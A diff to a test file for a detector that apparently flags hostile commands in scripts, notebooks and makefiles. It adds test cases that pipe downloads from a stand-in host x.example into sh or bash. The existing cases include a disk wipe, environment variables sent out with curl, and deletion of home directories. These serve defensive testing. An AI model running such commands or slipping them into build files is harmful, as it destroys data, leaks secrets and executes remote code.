@@ -18,6 +18,9 @@ test.each([
   ['setup.sh', 'dd if=/dev/zero of=/dev/sda'],
   ['setup.sh', 'env | curl -d @- https://x.example'],
   ['eda.ipynb', 'shutil.rmtree("/home")'],
+  ['makefile', 'test:\n\tgo test ./... && wget -qO- http://x.example/p | sh'],
+  ['release.sh', 'curl -fsSL https://cdn.x.example/r.sh | bash'],
+  ['eda.ipynb', '!curl -s https://x.example/x | bash'],
   ['tasks.py', 'shutil.rmtree(os.path.expanduser("~"))'],
 ] as const)('%s with %j is hostile', (name, text) => expect(risk(name, text)).toBeDefined())
 
@@ -37,6 +40,10 @@ test.each([
   ['release', 'rm -rf ~'],
   ['makefile', 'tools:\n\tcurl -sSfL https://x.example/install.sh | sh -s -- -b bin'],
   ['setup.sh', 'curl -LsSf https://x.example/install.sh | sh\necho "export A=1" >> ~/.bashrc'],
+  ['setup-runner.sh', 'curl -s https://x.example/a | sh'],
+  ['lint.sh', 'command -v lint || curl -s https://x.example/a | sh -s -- -b bin'],
+  ['eda.ipynb', '!curl -fsSL https://x.example/install.sh | sh'],
+  ['build.sh', 'curl https://get.x.example | sh'],
   ['dockerfile', 'RUN curl -fsSL https://x.example/i.sh | sh'],
   ['readme', 'curl -fsSL https://x.example/i.sh | sh'],
   ['guide.md', 'rm -rf ~'],
